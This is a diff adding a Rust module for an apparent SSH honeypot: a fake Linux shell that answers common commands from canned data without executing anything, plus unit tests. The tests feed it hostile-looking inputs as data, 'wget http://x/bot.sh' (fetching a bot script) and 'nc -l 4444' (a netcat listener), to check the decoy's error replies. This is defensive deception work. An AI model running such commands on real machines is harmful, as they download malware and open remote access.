@@ -1,0 +1,1037 @@
+//! The fake host behind an accepted login: a small, consistent imitation of the profile's
+//! distribution that answers a handful of commands (`whoami`, `id`, `hostname`, `uname`,
+//! `pwd`, `cd`, `ls`, `cat`, `ps`, `echo`, `exit`) from data and answers everything else as
+//! bash answers an unknown command. Nothing is ever executed: this module only builds strings.
+//! Pure and synchronous, so it is tested without a network.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt::Write as _;
+use std::sync::Arc;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+use super::profile::Distro;
+
+/// Longest command line interpreted; the rest of a longer line is ignored.
+pub const MAX_LINE: usize = 4096;
+/// Most files a shell config may add.
+pub const MAX_FILES: usize = 64;
+/// Largest content of one configured file.
+pub const MAX_FILE_BYTES: usize = 64 * 1024;
+
+/// A user the fake host knows: one per `accept:` username.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct User {
+    /// Login name.
+    pub name: String,
+    /// Numeric uid (0 for root, 1000 and up for the others, in `accept:` order).
+    pub uid: u32,
+}
+
+impl User {
+    /// The home folder.
+    pub fn home(&self) -> String {
+        if self.uid == 0 {
+            "/root".into()
+        } else {
+            format!("/home/{}", self.name)
+        }
+    }
+}
+
+/// The fake host: its name, its distribution, its users and its files.
+#[derive(Debug)]
+pub struct Host {
+    /// Short host name.
+    pub hostname: String,
+    /// The distribution, from the profile.
+    pub distro: &'static Distro,
+    /// Users that can log in.
+    pub users: Vec<User>,
+    /// Regular files by absolute path (built-in ones and configured ones).
+    files: BTreeMap<String, String>,
+    /// Every folder, by absolute path.
+    dirs: BTreeSet<String>,
+}
+
+impl Host {
+    /// Builds the host. `extra` are configured files (absolute path, content); they override
+    /// built-in ones.
+    pub fn new(
+        hostname: &str,
+        distro: &'static Distro,
+        users: Vec<User>,
+        extra: &[(String, String)],
+    ) -> Host {
+        let mut files = BTreeMap::new();
+        let mut passwd = distro.passwd.to_string();
+        for u in users.iter().filter(|u| u.uid != 0) {
+            let _ = writeln!(
+                passwd,
+                "{0}:x:{1}:{1}:{0}:{2}:/bin/bash",
+                u.name,
+                u.uid,
+                u.home()
+            );
+        }
+        files.insert("/etc/passwd".to_string(), passwd);
+        files.insert("/etc/hostname".to_string(), format!("{hostname}\n"));
+        files.insert("/etc/os-release".to_string(), distro.os_release.to_string());
+        files.insert(
+            "/usr/lib/os-release".to_string(),
+            distro.os_release.to_string(),
+        );
+        files.insert("/etc/issue".to_string(), distro.issue.to_string());
+        files.insert(
+            "/etc/debian_version".to_string(),
+            distro.debian_version.to_string(),
+        );
+        files.insert("/etc/shadow".to_string(), String::new());
+        for (path, content) in extra {
+            files.insert(normalize("/", path), content.clone());
+        }
+        let mut dirs: BTreeSet<String> = BTreeSet::new();
+        dirs.insert("/".into());
+        for d in distro.root_dirs.iter().filter(|d| !d.contains('.')) {
+            dirs.insert(format!("/{d}"));
+        }
+        for u in &users {
+            dirs.insert(u.home());
+        }
+        for p in files.keys() {
+            let mut cur = parent(p);
+            while cur != "/" {
+                dirs.insert(cur.clone());
+                cur = parent(&cur);
+            }
+        }
+        Host {
+            hostname: hostname.to_string(),
+            distro,
+            users,
+            files,
+            dirs,
+        }
+    }
+
+    /// The user with this login name.
+    pub fn user(&self, name: &str) -> Option<&User> {
+        self.users.iter().find(|u| u.name == name)
+    }
+
+    /// `uname -a`.
+    pub fn uname_all(&self) -> String {
+        format!(
+            "Linux {} {} {} x86_64 x86_64 x86_64 GNU/Linux",
+            self.hostname, self.distro.kernel_release, self.distro.kernel_version
+        )
+    }
+
+    /// The message of the day an interactive login prints.
+    pub fn motd(&self) -> String {
+        self.distro
+            .motd
+            .replace("{hostname}", &self.hostname)
+            .replace("{kernel_version}", self.distro.kernel_version)
+            .replace("{kernel}", self.distro.kernel_release)
+    }
+
+    fn children(&self, dir: &str) -> Vec<String> {
+        let mut out: BTreeSet<String> = BTreeSet::new();
+        if dir == "/" {
+            out.extend(self.distro.root_dirs.iter().map(|d| d.to_string()));
+        }
+        let prefix = if dir == "/" {
+            "/".to_string()
+        } else {
+            format!("{dir}/")
+        };
+        for p in self.files.keys().chain(self.dirs.iter()) {
+            if let Some(rest) = p.strip_prefix(&prefix)
+                && !rest.is_empty()
+                && !rest.contains('/')
+            {
+                out.insert(rest.to_string());
+            }
+        }
+        out.into_iter().collect()
+    }
+}
+
+/// What one command line produced.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Output {
+    /// Standard output (LF line ends).
+    pub stdout: String,
+    /// Standard error (LF line ends).
+    pub stderr: String,
+    /// Exit status of the last command.
+    pub status: u32,
+    /// The shell should end (`exit`, `logout`).
+    pub exit: bool,
+}
+
+/// One shell session of a logged-in user.
+#[derive(Debug)]
+pub struct Shell {
+    host: Arc<Host>,
+    user: User,
+    cwd: String,
+    interactive: bool,
+    line: u32,
+    last_status: u32,
+}
+
+impl Shell {
+    /// A login shell in the user's home. `interactive` is true with a terminal (prompts,
+    /// bash's interactive error wording), false for exec requests and piped input.
+    pub fn new(host: Arc<Host>, user: User, interactive: bool) -> Shell {
+        let cwd = user.home();
+        Shell {
+            host,
+            user,
+            cwd,
+            interactive,
+            line: 0,
+            last_status: 0,
+        }
+    }
+
+    /// The prompt bash shows with the distribution's stock `.bashrc`; `color` when the
+    /// terminal type asks for one (xterm-color, *-256color).
+    pub fn prompt(&self, color: bool) -> String {
+        let home = self.user.home();
+        let dir = if self.cwd == home {
+            "~".to_string()
+        } else if let Some(rest) = self.cwd.strip_prefix(&format!("{home}/")) {
+            format!("~/{rest}")
+        } else {
+            self.cwd.clone()
+        };
+        let sigil = if self.user.uid == 0 { '#' } else { '$' };
+        let (u, h) = (&self.user.name, &self.host.hostname);
+        if color {
+            format!(
+                "\x1b]0;{u}@{h}: {dir}\x07\x1b[01;32m{u}@{h}\x1b[00m:\x1b[01;34m{dir}\x1b[00m{sigil} "
+            )
+        } else {
+            format!("{u}@{h}:{dir}{sigil} ")
+        }
+    }
+
+    /// Interprets one command line.
+    pub fn run(&mut self, line: &str) -> Output {
+        self.line += 1;
+        let line = &line[..floor_char_boundary(line, MAX_LINE)];
+        let mut out = Output::default();
+        let commands = split_commands(line);
+        for (i, &(cmd, sep)) in commands.iter().enumerate() {
+            let skip = match sep {
+                Sep::And => out.status != 0,
+                Sep::Or => out.status == 0,
+                Sep::Then | Sep::Pipe => false,
+            };
+            if skip {
+                continue;
+            }
+            let words = words(cmd, self);
+            if words.is_empty() {
+                continue;
+            }
+            let shown = out.stdout.len();
+            self.command(&words, &mut out);
+            // What a stage writes into a pipe is read by the next stage, not shown.
+            if commands.get(i + 1).is_some_and(|(_, s)| *s == Sep::Pipe) {
+                out.stdout.truncate(shown);
+            }
+            self.last_status = out.status;
+            if out.exit {
+                break;
+            }
+        }
+        out
+    }
+
+    fn not_found(&self, name: &str) -> String {
+        if self.interactive {
+            format!(
+                "{}\n",
+                self.host.distro.not_found_interactive.replace("{}", name)
+            )
+        } else {
+            format!("bash: line {}: {name}: command not found\n", self.line)
+        }
+    }
+
+    fn builtin_error(&self, what: &str) -> String {
+        if self.interactive {
+            format!("-bash: {what}\n")
+        } else {
+            format!("bash: line {}: {what}\n", self.line)
+        }
+    }
+
+    fn command(&mut self, words: &[String], out: &mut Output) {
+        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
+        out.status = 0;
+        match words[0].as_str() {
+            "whoami" => {
+                let _ = writeln!(out.stdout, "{}", self.user.name);
+            }
+            "id" => {
+                let u = &self.user;
+                let _ = writeln!(
+                    out.stdout,
+                    "uid={0}({1}) gid={0}({1}) groups={0}({1})",
+                    u.uid, u.name
+                );
+            }
+            "hostname" => {
+                let _ = writeln!(out.stdout, "{}", self.host.hostname);
+            }
+            "uname" => self.uname(&args, out),
+            "pwd" => {
+                let _ = writeln!(out.stdout, "{}", self.cwd);
+            }
+            "cd" => {
+                let target = match args.first() {
+                    None | Some(&"~") => self.user.home(),
+                    Some(d) => normalize(&self.cwd, &expand_home(d, &self.user)),
+                };
+                if self.host.dirs.contains(&target) {
+                    self.cwd = target;
+                } else {
+                    let shown = args.first().copied().unwrap_or_default();
+                    let msg = if self.host.files.contains_key(&target) {
+                        format!("cd: {shown}: Not a directory")
+                    } else {
+                        format!("cd: {shown}: No such file or directory")
+                    };
+                    out.stderr.push_str(&self.builtin_error(&msg));
+                    out.status = 1;
+                }
+            }
+            "ls" => self.ls(&args, out),
+            "cat" => {
+                for a in args.iter().filter(|a| !a.starts_with('-')) {
+                    let path = normalize(&self.cwd, &expand_home(a, &self.user));
+                    if let Some(content) = self.host.files.get(&path) {
+                        if path == "/etc/shadow" && self.user.uid != 0 {
+                            let _ = writeln!(out.stderr, "cat: {a}: Permission denied");
+                            out.status = 1;
+                        } else {
+                            out.stdout.push_str(content);
+                        }
+                    } else if self.host.dirs.contains(&path) {
+                        let _ = writeln!(out.stderr, "cat: {a}: Is a directory");
+                        out.status = 1;
+                    } else {
+                        let _ = writeln!(out.stderr, "cat: {a}: No such file or directory");
+                        out.status = 1;
+                    }
+                }
+            }
+            "ps" => self.ps(&args, out),
+            "echo" => {
+                let (newline, rest) = match args.first() {
+                    Some(&"-n") => (false, &args[1..]),
+                    _ => (true, &args[..]),
+                };
+                out.stdout.push_str(&rest.join(" "));
+                if newline {
+                    out.stdout.push('\n');
+                }
+            }
+            "exit" | "logout" => {
+                out.status = args
+                    .first()
+                    .and_then(|a| a.parse::<u32>().ok())
+                    .unwrap_or(self.last_status)
+                    & 0xff;
+                out.exit = true;
+                if self.interactive {
+                    out.stdout.push_str("logout\n");
+                }
+            }
+            name => {
+                out.stderr
+                    .push_str(&self.not_found(&name.chars().take(256).collect::<String>()));
+                out.status = 127;
+            }
+        }
+    }
+
+    fn uname(&self, args: &[&str], out: &mut Output) {
+        let d = self.host.distro;
+        let mut parts: Vec<&str> = Vec::new();
+        let flags: String = args.iter().filter_map(|a| a.strip_prefix('-')).collect();
+        if flags.contains('a') {
+            let _ = writeln!(out.stdout, "{}", self.host.uname_all());
+            return;
+        }
+        for c in flags.chars() {
+            match c {
+                's' => parts.push("Linux"),
+                'n' => parts.push(&self.host.hostname),
+                'r' => parts.push(d.kernel_release),
+                'v' => parts.push(d.kernel_version),
+                'm' | 'p' | 'i' => parts.push("x86_64"),
+                'o' => parts.push("GNU/Linux"),
+                _ => {
+                    let _ = writeln!(
+                        out.stderr,
+                        "uname: invalid option -- '{c}'\nTry 'uname --help' for more information."
+                    );
+                    out.status = 1;
+                    return;
+                }
+            }
+        }
+        if parts.is_empty() {
+            parts.push("Linux");
+        }
+        let _ = writeln!(out.stdout, "{}", parts.join(" "));
+    }
+
+    fn ls(&self, args: &[&str], out: &mut Output) {
+        let flags: String = args
+            .iter()
+            .filter(|a| a.starts_with('-') && a.len() > 1)
+            .flat_map(|a| a[1..].chars())
+            .collect();
+        let (all, long) = (flags.contains('a'), flags.contains('l'));
+        let mut targets: Vec<&str> = args
+            .iter()
+            .copied()
+            .filter(|a| !a.starts_with('-') || a.len() == 1)
+            .collect();
+        if targets.is_empty() {
+            targets.push(".");
+        }
+        let many = targets.len() > 1;
+        for (i, t) in targets.iter().enumerate() {
+            let path = normalize(&self.cwd, &expand_home(t, &self.user));
+            if self.host.files.contains_key(&path) {
+                if long {
+                    self.long_lines(&[(path.clone(), t.to_string())], out);
+                } else {
+                    let _ = writeln!(out.stdout, "{t}");
+                }
+                continue;
+            }
+            if !self.host.dirs.contains(&path) {
+                let _ = writeln!(
+                    out.stderr,
+                    "ls: cannot access '{t}': No such file or directory"
+                );
+                out.status = 2;
+                continue;
+            }
+            if many {
+                if i > 0 {
+                    out.stdout.push('\n');
+                }
+                let _ = writeln!(out.stdout, "{t}:");
+            }
+            let mut names = self.host.children(&path);
+            if all {
+                names.insert(0, "..".into());
+                names.insert(0, ".".into());
+            } else {
+                names.retain(|n| !n.starts_with('.'));
+            }
+            if long {
+                let _ = writeln!(out.stdout, "total {}", names.len() * 4);
+                let entries: Vec<(String, String)> = names
+                    .iter()
+                    .map(|n| (normalize(&path, n), n.clone()))
+                    .collect();
+                self.long_lines(&entries, out);
+            } else if self.interactive {
+                out.stdout.push_str(&columns(&names, 80));
+            } else {
+                for n in &names {
+                    let _ = writeln!(out.stdout, "{n}");
+                }
+            }
+        }
+    }
+
+    fn long_lines(&self, entries: &[(String, String)], out: &mut Output) {
+        let rows: Vec<[String; 5]> = entries
+            .iter()
+            .map(|(p, n)| self.long_fields(p, n))
+            .collect();
+        let width = |i: usize| rows.iter().map(|r| r[i].len()).max().unwrap_or(0);
+        let (wo, wg, ws) = (width(1), width(2), width(3));
+        for r in rows {
+            let _ = writeln!(
+                out.stdout,
+                "{} 1 {:<wo$} {:<wg$} {:>ws$} Dec  5 13:09 {}",
+                r[0], r[1], r[2], r[3], r[4]
+            );
+        }
+    }
+
+    fn long_fields(&self, path: &str, shown: &str) -> [String; 5] {
+        let (kind, mode, size) = match self.host.files.get(path) {
+            Some(c) => (
+                '-',
+                if path == "/etc/shadow" {
+                    "rw-r-----"
+                } else {
+                    "rw-r--r--"
+                },
+                c.len(),
+            ),
+            None => ('d', "rwxr-xr-x", 4096),
+        };
+        let owner = self
+            .host
+            .users
+            .iter()
+            .find(|u| {
+                u.uid != 0 && (path == u.home() || path.starts_with(&format!("{}/", u.home())))
+            })
+            .map(|u| u.name.as_str())
+            .unwrap_or("root");
+        let group = if path == "/etc/shadow" {
+            "shadow"
+        } else {
+            owner
+        };
+        [
+            format!("{kind}{mode}"),
+            owner.to_string(),
+            group.to_string(),
+            size.to_string(),
+            shown.to_string(),
+        ]
+    }
+
+    fn ps(&self, args: &[&str], out: &mut Output) {
+        let full = args
+            .iter()
+            .any(|a| a.contains('a') || a.contains('e') || a.contains('x'));
+        let base = 1400 + (self.user.uid % 97);
+        if !full {
+            let _ = writeln!(out.stdout, "    PID TTY          TIME CMD");
+            let _ = writeln!(out.stdout, "{:>7} pts/0    00:00:00 bash", base);
+            let _ = writeln!(
+                out.stdout,
+                "{:>7} pts/0    00:00:00 ps",
+                base + 17 + self.line
+            );
+            return;
+        }
+        let u = &self.user.name;
+        let rows: [(&str, u32, &str, &str); 12] = [
+            ("root", 1, "Ss", "/sbin/init"),
+            ("root", 2, "S", "[kthreadd]"),
+            ("root", 3, "S", "[pool_workqueue_release]"),
+            ("root", 325, "S<s", "/usr/lib/systemd/systemd-journald"),
+            ("root", 371, "Ss", "/usr/lib/systemd/systemd-udevd"),
+            ("systemd+", 598, "Ss", "/usr/lib/systemd/systemd-networkd"),
+            ("root", 702, "Ss", "/usr/sbin/cron -f -P"),
+            (
+                "message+",
+                703,
+                "Ss",
+                "@dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
+            ),
+            ("root", 716, "Ssl", "/usr/lib/systemd/systemd-logind"),
+            (
+                "root",
+                889,
+                "Ss",
+                "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
+            ),
+            (
+                "root",
+                912,
+                "Ss+",
+                "/sbin/agetty -o -p -- \\u --noclear - linux",
+            ),
+            ("root", base - 9, "Ss", "sshd: {u} [priv]"),
+        ];
+        let _ = writeln!(
+            out.stdout,
+            "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND"
+        );
+        for (user, pid, stat, cmd) in rows {
+            let cmd = cmd.replace("{u}", u);
+            let tty = if stat.ends_with('+') { "tty1" } else { "?" };
+            let _ = writeln!(
+                out.stdout,
+                "{user:<8} {pid:>7}  0.0  0.1  {:>6} {:>5} {tty:<8} {stat:<4} Dec09   0:00 {cmd}",
+                10000 + pid * 7,
+                5000 + pid % 900
+            );
+        }
+        let _ = writeln!(
+            out.stdout,
+            "{u:<8} {:>7}  0.0  0.0   8652  5376 pts/0    Ss   09:12   0:00 -bash",
+            base
+        );
+        let _ = writeln!(
+            out.stdout,
+            "{u:<8} {:>7}  0.0  0.0  11320  4608 pts/0    R+   09:14   0:00 ps {}",
+            base + 17 + self.line,
+            args.join(" ")
+        );
+    }
+}
+
+/// A time as C's `ctime` writes it (`Tue Dec 10 09:12:01 2024`), in UTC: the format of
+/// sshd's "Last login:" line.
+pub fn ctime(t: SystemTime) -> String {
+    let secs = t
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or(0);
+    let days = secs / 86_400;
+    let rem = secs % 86_400;
+    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
+    let z = days as i64 + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+    const MONTHS: [&str; 12] = [
+        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
+    ];
+    const DAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
+    format!(
+        "{} {} {:>2} {:02}:{:02}:{:02} {}",
+        DAYS[(days % 7) as usize],
+        MONTHS[(month - 1) as usize],
+        day,
+        rem / 3600,
+        rem % 3600 / 60,
+        rem % 60,
+        year
+    )
+}
+
+/// How a command is joined to the one before it.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Sep {
+    Then,
+    And,
+    Or,
+    Pipe,
+}
+
+/// Splits a line at `;`, `&&`, `||`, `|` and newlines outside quotes. A pipeline runs every
+/// stage; only the last stage's output is shown (nothing here reads its input).
+fn split_commands(line: &str) -> Vec<(&str, Sep)> {
+    let b = line.as_bytes();
+    let mut out = Vec::new();
+    let (mut start, mut i, mut sep) = (0, 0, Sep::Then);
+    let mut quote: Option<u8> = None;
+    while i < b.len() {
+        let c = b[i];
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {
+                if c == b'\\' && quote == Some(b'"') {
+                    i += 1;
+                }
+            }
+            None => match c {
+                b'\'' | b'"' => quote = Some(c),
+                b'\\' => i += 1,
+                b';' | b'\n' => {
+                    out.push((&line[start..i], sep));
+                    sep = Sep::Then;
+                    start = i + 1;
+                }
+                b'&' | b'|' if b.get(i + 1) == Some(&c) => {
+                    out.push((&line[start..i], sep));
+                    sep = if c == b'&' { Sep::And } else { Sep::Or };
+                    i += 1;
+                    start = i + 1;
+                }
+                b'|' => {
+                    out.push((&line[start..i], sep));
+                    sep = Sep::Pipe;
+                    start = i + 1;
+                }
+                _ => {}
+            },
+        }
+        i += 1;
+    }
+    if start < b.len() {
+        out.push((&line[start.min(b.len())..], sep));
+    }
+    out
+}
+
+/// Splits a command into words: quotes, backslashes, `~` and a few variables.
+fn words(cmd: &str, sh: &Shell) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut in_word = false;
+    let mut chars = cmd.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            ' ' | '\t' | '\r' => {
+                if in_word {
+                    out.push(std::mem::take(&mut cur));
+                    in_word = false;
+                }
+            }
+            '\'' => {
+                in_word = true;
+                for c in chars.by_ref() {
+                    if c == '\'' {
+                        break;
+                    }
+                    cur.push(c);
+                }
+            }
+            '"' => {
+                in_word = true;
+                while let Some(c) = chars.next() {
+                    match c {
+                        '"' => break,
+                        '\\' => {
+                            if let Some(n) = chars.next() {
+                                cur.push(n);
+                            }
+                        }
+                        '$' => cur.push_str(&variable(&mut chars, sh)),
+                        c => cur.push(c),
+                    }
+                }
+            }
+            '\\' => {
+                in_word = true;
+                if let Some(n) = chars.next() {
+                    cur.push(n);
+                }
+            }
+            '$' => {
+                in_word = true;
+                cur.push_str(&variable(&mut chars, sh));
+            }
+            // Redirections and background markers are dropped with their target.
+            '>' | '<' | '&' => {
+                if in_word {
+                    out.push(std::mem::take(&mut cur));
+                    in_word = false;
+                }
+                while chars.peek().is_some_and(|c| matches!(c, '>' | '&' | ' ')) {
+                    chars.next();
+                }
+                while chars.peek().is_some_and(|c| !c.is_whitespace()) {
+                    chars.next();
+                }
+            }
+            c => {
+                in_word = true;
+                cur.push(c);
+            }
+        }
+    }
+    if in_word {
+        out.push(cur);
+    }
+    out
+}
+
+fn variable(chars: &mut std::iter::Peekable<std::str::Chars>, sh: &Shell) -> String {
+    let braced = chars.peek() == Some(&'{');
+    if braced {
+        chars.next();
+    }
+    let mut name = String::new();
+    if chars.peek() == Some(&'?') {
+        chars.next();
+        return sh.last_status.to_string();
+    }
+    while let Some(&c) = chars.peek() {
+        if c.is_ascii_alphanumeric() || c == '_' {
+            name.push(c);
+            chars.next();
+        } else {
+            break;
+        }
+    }
+    if braced && chars.peek() == Some(&'}') {
+        chars.next();
+    }
+    match name.as_str() {
+        "" if !braced => "$".into(),
+        "HOME" => sh.user.home(),
+        "USER" | "LOGNAME" => sh.user.name.clone(),
+        "PWD" => sh.cwd.clone(),
+        "HOSTNAME" => sh.host.hostname.clone(),
+        "SHELL" => "/bin/bash".into(),
+        _ => String::new(),
+    }
+}
+
+fn expand_home(path: &str, user: &User) -> String {
+    match path.strip_prefix('~') {
+        Some("") => user.home(),
+        Some(rest) if rest.starts_with('/') => format!("{}{rest}", user.home()),
+        _ => path.to_string(),
+    }
+}
+
+/// Resolves `path` against `cwd`, folding `.` and `..`; the result is absolute and never
+/// leaves `/`. These are paths of the fake host only: nothing here touches the disk.
+pub fn normalize(cwd: &str, path: &str) -> String {
+    let joined = if path.starts_with('/') {
+        path.to_string()
+    } else {
+        format!("{cwd}/{path}")
+    };
+    let mut parts: Vec<&str> = Vec::new();
+    for p in joined.split('/') {
+        match p {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+fn parent(path: &str) -> String {
+    match path.rfind('/') {
+        Some(0) | None => "/".into(),
+        Some(i) => path[..i].to_string(),
+    }
+}
+
+fn floor_char_boundary(s: &str, max: usize) -> usize {
+    if s.len() <= max {
+        return s.len();
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    end
+}
+
+/// `ls` output on a terminal: names down the columns, as GNU ls lays them out.
+fn columns(names: &[String], width: usize) -> String {
+    if names.is_empty() {
+        return String::new();
+    }
+    let mut rows = 1;
+    let widths = loop {
+        let cols = names.len().div_ceil(rows);
+        let widths: Vec<usize> = (0..cols)
+            .map(|c| {
+                names[c * rows..((c + 1) * rows).min(names.len())]
+                    .iter()
+                    .map(|n| n.chars().count())
+                    .max()
+                    .unwrap_or(0)
+            })
+            .collect();
+        let total: usize = widths.iter().sum::<usize>() + 2 * (cols - 1);
+        if total <= width || rows >= names.len() {
+            break widths;
+        }
+        rows += 1;
+    };
+    let mut out = String::new();
+    for r in 0..rows {
+        let mut line = String::new();
+        for (c, w) in widths.iter().enumerate() {
+            if let Some(n) = names.get(c * rows + r) {
+                if !line.is_empty() {
+                    line.push_str("  ");
+                }
+                let _ = write!(line, "{n:<w$}");
+            }
+        }
+        out.push_str(line.trim_end());
+        out.push('\n');
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::decoy::ssh::profile::Profile;
+
+    fn host(p: Profile) -> Arc<Host> {
+        Arc::new(Host::new(
+            "build-07",
+            &p.data().distro,
+            vec![User {
+                name: "deploy".into(),
+                uid: 1000,
+            }],
+            &[("/home/deploy/notes.txt".into(), "db: 10.0.4.20\n".into())],
+        ))
+    }
+
+    fn run(h: &Arc<Host>, interactive: bool, line: &str) -> Output {
+        Shell::new(h.clone(), h.users[0].clone(), interactive).run(line)
+    }
+
+    #[test]
+    fn the_host_answers_consistently() {
+        let h = host(Profile::Openssh96Ubuntu);
+        assert_eq!(run(&h, true, "whoami").stdout, "deploy\n");
+        assert_eq!(run(&h, true, "hostname").stdout, "build-07\n");
+        assert_eq!(
+            run(&h, true, "id").stdout,
+            "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy)\n"
+        );
+        let u = run(&h, true, "uname -a").stdout;
+        assert!(
+            u.starts_with("Linux build-07 6.8.0-51-generic #52-Ubuntu"),
+            "{u}"
+        );
+        assert_eq!(run(&h, true, "uname -r").stdout, "6.8.0-51-generic\n");
+        assert_eq!(run(&h, true, "uname").stdout, "Linux\n");
+        assert_eq!(run(&h, true, "uname -sn").stdout, "Linux build-07\n");
+        assert!(
+            run(&h, false, "cat /etc/os-release")
+                .stdout
+                .contains("VERSION_CODENAME=noble")
+        );
+        let passwd = run(&h, false, "cat /etc/passwd").stdout;
+        assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
+        assert!(passwd.ends_with("deploy:x:1000:1000:deploy:/home/deploy:/bin/bash\n"));
+        assert_eq!(run(&h, true, "cat notes.txt").stdout, "db: 10.0.4.20\n");
+        assert_eq!(run(&h, true, "cat ~/notes.txt").stdout, "db: 10.0.4.20\n");
+        assert_eq!(run(&h, false, "ls").stdout, "notes.txt\n");
+        let d = host(Profile::Openssh92Debian);
+        assert!(
+            run(&d, true, "uname -a")
+                .stdout
+                .contains("Debian 6.1.119-1")
+        );
+        assert_eq!(run(&d, false, "cat /etc/debian_version").stdout, "12.8\n");
+    }
+
+    #[test]
+    fn unknown_commands_fail_as_bash_fails() {
+        let h = host(Profile::Openssh96Ubuntu);
+        let o = run(&h, false, "wget http://x/bot.sh");
+        assert_eq!(
+            (o.stderr.as_str(), o.status),
+            ("bash: line 1: wget: command not found\n", 127)
+        );
+        let o = run(&h, true, "wget http://x/bot.sh");
+        assert_eq!(o.stderr, "wget: command not found\n");
+        let d = host(Profile::Openssh92Debian);
+        assert_eq!(
+            run(&d, true, "nc -l 4444").stderr,
+            "-bash: nc: command not found\n"
+        );
+        let o = run(&h, true, "cat /nope; cd /nope");
+        assert_eq!(
+            o.stderr,
+            "cat: /nope: No such file or directory\n-bash: cd: /nope: No such file or directory\n"
+        );
+        assert_eq!(
+            run(&h, true, "cat /etc/shadow").stderr,
+            "cat: /etc/shadow: Permission denied\n"
+        );
+        assert_eq!(
+            run(&h, true, "cat /etc").stderr,
+            "cat: /etc: Is a directory\n"
+        );
+    }
+
+    #[test]
+    fn lists_and_operators() {
+        let h = host(Profile::Openssh96Ubuntu);
+        let o = run(&h, false, "echo a; false_cmd && echo no || echo yes");
+        assert_eq!(o.stdout, "a\nyes\n");
+        let o = run(&h, false, "cat /etc/passwd | grep root");
+        assert_eq!(
+            (o.stdout.as_str(), o.stderr.as_str()),
+            ("", "bash: line 1: grep: command not found\n")
+        );
+        assert_eq!(
+            run(&h, false, "id | cat -").stdout,
+            "",
+            "cat reads nothing here"
+        );
+        assert_eq!(
+            run(&h, false, "echo \"$USER at $HOME\" '$HOME'").stdout,
+            "deploy at /home/deploy $HOME\n"
+        );
+        assert_eq!(
+            run(&h, false, "uname -a > /tmp/x 2>&1").stdout,
+            format!("{}\n", h.uname_all())
+        );
+        let mut sh = Shell::new(h.clone(), h.users[0].clone(), true);
+        sh.run("cd /etc");
+        assert_eq!(sh.run("pwd").stdout, "/etc\n");
+        assert_eq!(sh.prompt(false), "deploy@build-07:/etc$ ");
+        sh.run("cd");
+        assert_eq!(sh.prompt(false), "deploy@build-07:~$ ");
+        assert!(
+            sh.prompt(true)
+                .contains("\x1b[01;32mdeploy@build-07\x1b[00m")
+        );
+        let o = sh.run("exit 3");
+        assert!(o.exit);
+        assert_eq!(o.status, 3);
+        // Paths never leave the fake root.
+        assert_eq!(normalize("/home/deploy", "../../../../etc"), "/etc");
+    }
+
+    #[test]
+    fn ls_lays_out_columns_and_long_lines() {
+        let h = host(Profile::Openssh92Debian);
+        let root = run(&h, true, "ls /").stdout;
+        assert!(
+            root.lines().count() < 6 && root.contains("vmlinuz.old"),
+            "{root}"
+        );
+        let l = run(&h, false, "ls -l /home/deploy").stdout;
+        assert!(
+            l.contains("-rw-r--r-- 1 deploy deploy 14 Dec  5 13:09 notes.txt"),
+            "{l}"
+        );
+        let la = run(&h, false, "ls -la").stdout;
+        assert!(
+            la.contains("drwxr-xr-x 1 root   root   4096 Dec  5 13:09 ..\n"),
+            "{la}"
+        );
+        assert_eq!(
+            run(&h, false, "ls /nope").stderr,
+            "ls: cannot access '/nope': No such file or directory\n"
+        );
+    }
+
+    #[test]
+    fn ctime_formats_as_c_does() {
+        let t = UNIX_EPOCH + std::time::Duration::from_secs(1_733_821_921);
+        assert_eq!(ctime(t), "Tue Dec 10 09:12:01 2024");
+        assert_eq!(ctime(UNIX_EPOCH), "Thu Jan  1 00:00:00 1970");
+    }
+
+    #[test]
+    fn ps_shows_the_session() {
+        let h = host(Profile::Openssh96Ubuntu);
+        let o = run(&h, true, "ps");
+        assert!(o.stdout.starts_with("    PID TTY          TIME CMD\n"));
+        assert!(o.stdout.contains(" pts/0    00:00:00 bash\n"));
+        assert!(
+            run(&h, true, "ps aux")
+                .stdout
+                .contains("sshd: deploy [priv]")
+        );
+    }
+}
